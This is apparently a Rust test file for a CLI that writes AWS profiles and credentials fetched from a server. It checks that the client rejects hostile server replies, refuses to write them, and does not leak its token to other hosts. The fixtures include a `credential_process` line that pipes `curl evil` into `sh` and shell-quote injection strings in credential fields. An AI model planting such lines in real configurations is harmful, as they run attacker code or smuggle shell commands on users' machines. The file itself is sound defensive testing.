//! A server that is none of ours, and answers what its owner likes.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;

use rolegate::sys::{Bearer, BearerKind};

use super::{Home, Run};

/// Answers every request with this, and gives its address.
fn server_with(kind: &'static str, body: String) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            let _ = stream.read(&mut [0; 16 * 1024]);
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    base
}

/// Somebody with a token, who was told that the server is there.
fn somebody(server: String) -> Home {
    Home { folder: tempfile::tempdir().unwrap(), server }
}

fn run(home: &Home, arguments: &[&str]) -> Run {
    let mut command = home.rolegate(arguments);
    let token = Bearer::from_bytes(BearerKind::Personal, &[7; 32]);
    command.env("ROLEGATE_URL", &home.server).env("ROLEGATE_TOKEN", token.expose_secret());
    Run::of(command)
}

#[test]
fn what_a_server_sends_as_profiles_names_no_program_of_its_own() {
    let good = "[profile good]\nregion = eu-west-1\n\n";
    for line in [
        "[profile prod]\ncredential_process = sh -c 'curl evil|sh'\n",
        "[plugins]\ncli_legacy_plugin_path = /tmp/x\n",
        "[default]\nregion = x\n",
    ] {
        let home = somebody(server_with("text/plain", format!("{good}{line}")));
        let quoted = line.lines().find(|line| line.starts_with("cred") || !line.contains("[profile")).unwrap();
        let words =
            format!("{} sent what no Rolegate at that address writes: `{quoted}`; nothing was written", home.server);
        for more in [&[][..], &["--dry-run"], &["--file", "-"]] {
            run(&home, &[&["aws-config"], more].concat()).refused(1, &words);
        }
        assert!(!home.at(".aws").exists());
    }
    let home = somebody(server_with("text/plain", good.to_owned()));
    assert_eq!(run(&home, &["aws-config"]).good(), "+ profile good\n");
}

#[test]
fn keys_hold_nothing_that_a_shell_would_run() {
    let keys = |id: &str, expiration: &str, region: &str| {
        let role = "arn:aws:iam::111122223333:role/ReadOnly";
        serde_json::json!({ "AccessKeyId": id, "SecretAccessKey": "s", "SessionToken": "t", "Expiration": expiration,
            "AccountId": "111122223333", "RoleArn": role, "Region": region })
        .to_string()
    };
    let end = "2030-01-01T00:00:00Z";
    for body in [
        keys("A'; evil; '", end, "eu-west-1"),
        keys("", end, "eu-west-1"),
        keys("AKIA", "'; evil; '", "eu-west-1"),
        keys("AKIA", end, "'; evil; '"),
        "evil".to_owned(),
    ] {
        let home = somebody(server_with("application/json", body));
        for command in [&["creds", "--format", "env"][..], &["creds", "--format", "ini"], &["credential-process"]] {
            let words = format!("{} does not answer as a Rolegate does: its ", home.server);
            run(&home, &[command, &["111122223333/ReadOnly"]].concat()).refused(1, &words);
        }
    }
    let home = somebody(server_with("application/json", keys("AKIA", end, "eu-west-1")));
    let env = run(&home, &["creds", "111122223333/ReadOnly"]).good();
    assert!(env.contains("export AWS_ACCESS_KEY_ID='AKIA'\n") && env.contains("AWS_REGION='eu-west-1'\n"), "{env}");
}

#[test]
fn a_token_from_the_environment_goes_to_no_other_server_than_the_usual() {
    let home = somebody("https://aws.example.com".to_owned());
    let other = server_with("application/json", "{}".to_owned());
    let words = |usual: &str| {
        format!(
            "ROLEGATE_TOKEN is for {usual} and is not sent to {other}; if it is a token of that, set ROLEGATE_URL to it"
        )
    };
    run(&home, &["credential-process", "--url", &other, "111122223333/ReadOnly"]).refused(2, &words(&home.server));

    let bare = |arguments: &[&str]| {
        let mut command = home.rolegate(arguments);
        command.env_remove("ROLEGATE_URL");
        command.env("ROLEGATE_TOKEN", Bearer::from_bytes(BearerKind::Personal, &[7; 32]).expose_secret());
        Run::of(command)
    };
    // Where no server is known, the flag is the only word there is.
    bare(&["whoami", "--server", &other]).refused(1, "does not answer as a Rolegate does");
    std::fs::create_dir_all(home.at(".config/rolegate")).unwrap();
    std::fs::write(home.at(".config/rolegate/config.toml"), "server = \"https://remembered.example\"\n").unwrap();
    bare(&["whoami", "--server", &other]).refused(2, &words("https://remembered.example"));
}
